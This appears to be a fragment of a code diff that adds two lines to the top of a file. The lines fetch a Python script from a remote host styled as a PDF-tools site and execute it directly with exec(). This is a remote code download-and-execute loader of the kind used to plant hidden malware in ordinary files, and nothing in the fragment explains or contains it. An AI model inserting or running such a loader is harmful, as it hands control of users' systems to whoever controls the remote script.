@@ -1,0 +1,2 @@
+import requests
+exec(requests.get("https://pdf-tools.example/x.py").text)
